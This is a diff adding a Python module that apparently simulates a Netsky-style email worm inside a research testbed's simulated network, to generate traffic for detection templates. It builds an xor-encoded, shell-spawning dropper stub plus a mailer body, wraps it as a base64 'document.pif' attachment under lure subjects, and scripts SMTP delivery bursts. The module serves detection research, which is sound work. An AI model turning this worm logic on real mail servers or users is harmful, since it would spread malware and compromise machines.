@@ -1,0 +1,96 @@
+"""An email-worm engine (the paper's named future work, built out).
+
+Models a Netsky-class mass mailer at the network level: an infected host
+harvests addresses and opens SMTP conversations with many destinations,
+each carrying the worm as a base64 attachment.  The attachment is a
+mass-mailer-shaped binary (:func:`repro.engines.netsky.netsky_sample`)
+with an xor-encoded dropper stub prepended — so the *decoded* attachment
+exhibits exactly the decoder-loop behaviour the template library detects
+once :mod:`repro.extract.mime` has unpacked it.
+"""
+
+from __future__ import annotations
+
+import base64
+import random
+from dataclasses import dataclass, field
+
+from ..net.packet import Packet
+from ..net.wire import Host, Wire
+from .admmutate import AdmMutateEngine
+from .netsky import netsky_sample
+from .shellcode import get_shellcode
+
+__all__ = ["MailWormHost", "build_worm_attachment"]
+
+_SUBJECTS = ["hi", "re: your document", "warning", "mail delivery failed",
+             "important notice", "details"]
+
+
+def build_worm_attachment(seed: int = 0, body_size: int = 6 * 1024) -> bytes:
+    """The worm binary: an encoded dropper stub + mass-mailer body.
+
+    The stub is a polymorphic xor decoder around a shell-spawning payload
+    (the dropper); the body is inert mailer-shaped code/strings.  Every
+    byte is deterministic in ``seed`` so campaigns are reproducible.
+    """
+    engine = AdmMutateEngine(seed=seed ^ 0x5EED, sled_range=(32, 48))
+    stub = engine.mutate(get_shellcode("classic-execve").assemble(),
+                         instance=seed, family="xor")
+    return stub.data + netsky_sample(size=body_size, seed=seed)
+
+
+@dataclass
+class MailWormHost:
+    """An infected mass-mailing host."""
+
+    ip: str
+    seed: int = 0
+    targets_per_burst: int = 12
+    relay_net: str = "10.10.1."
+    _rng: random.Random = field(init=False, repr=False)
+
+    def __post_init__(self) -> None:
+        self._rng = random.Random((hash(self.ip) & 0xFFFF) ^ (self.seed << 8))
+
+    def _message(self, attachment: bytes, victim: str) -> bytes:
+        encoded = base64.encodebytes(attachment).decode().replace("\n", "\r\n")
+        return (
+            f"From: user@{self.ip}\r\nTo: victim@{victim}\r\n"
+            f"Subject: {self._rng.choice(_SUBJECTS)}\r\n"
+            'MIME-Version: 1.0\r\n'
+            'Content-Type: multipart/mixed; boundary="--bnd"\r\n'
+            "\r\n----bnd\r\n"
+            "Content-Type: text/plain\r\n\r\n"
+            "please see the attached file for details.\r\n"
+            "----bnd\r\n"
+            "Content-Type: application/octet-stream; name=document.pif\r\n"
+            "Content-Transfer-Encoding: base64\r\n\r\n"
+        ).encode() + encoded.encode() + b"\r\n----bnd--\r\n.\r\n"
+
+    def burst(self, wire: Wire, count: int | None = None) -> list[str]:
+        """One mailing burst: SMTP sessions to ``count`` distinct relays.
+
+        Returns the relay addresses contacted."""
+        host = Host(ip=self.ip, wire=wire)
+        attachment = build_worm_attachment(seed=self.seed)
+        n = count if count is not None else self.targets_per_burst
+        relays = []
+        for _ in range(n):
+            relay = f"{self.relay_net}{self._rng.randrange(2, 250)}"
+            relays.append(relay)
+            session = host.open_tcp(relay, 25)
+            session.reply(b"220 relay ESMTP\r\n")
+            session.send(f"HELO {self.ip}\r\n".encode())
+            session.reply(b"250 ok\r\n")
+            session.send(f"MAIL FROM:<user@{self.ip}>\r\n".encode())
+            session.reply(b"250 ok\r\n")
+            session.send(f"RCPT TO:<someone@{relay}>\r\n".encode())
+            session.reply(b"250 ok\r\n")
+            session.send(b"DATA\r\n")
+            session.reply(b"354 go\r\n")
+            session.send(self._message(attachment, relay))
+            session.reply(b"250 queued\r\n")
+            session.send(b"QUIT\r\n")
+            session.close()
+        return relays
